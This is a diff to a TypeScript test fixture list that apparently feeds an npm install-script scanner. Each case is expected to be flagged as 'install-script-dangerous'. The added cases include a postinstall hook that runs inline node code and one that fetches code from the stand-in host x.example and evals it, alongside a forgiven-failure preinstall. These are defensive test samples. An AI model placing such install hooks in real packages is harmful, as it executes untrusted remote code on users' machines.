@@ -149,6 +149,18 @@ export const codeTechniques: readonly CodeTechnique[] = [
     told: 'install-script-dangerous',
   },
   {
+    name: 'code in the manifest itself',
+    manifest: { scripts: { postinstall: `node -e "${sends}"` } },
+    told: 'install-script-dangerous',
+  },
+  {
+    name: 'a download that code in the manifest evaluates',
+    manifest: {
+      scripts: { postinstall: `node -e "fetch('https://x.example/p').then((r) => r.text()).then(eval)"` },
+    },
+    told: 'install-script-dangerous',
+  },
+  {
     name: 'a script whose failure is forgiven',
     manifest: { scripts: { preinstall: 'node lib/a.cjs || true' } },
     files: { 'lib/a.cjs': sends },
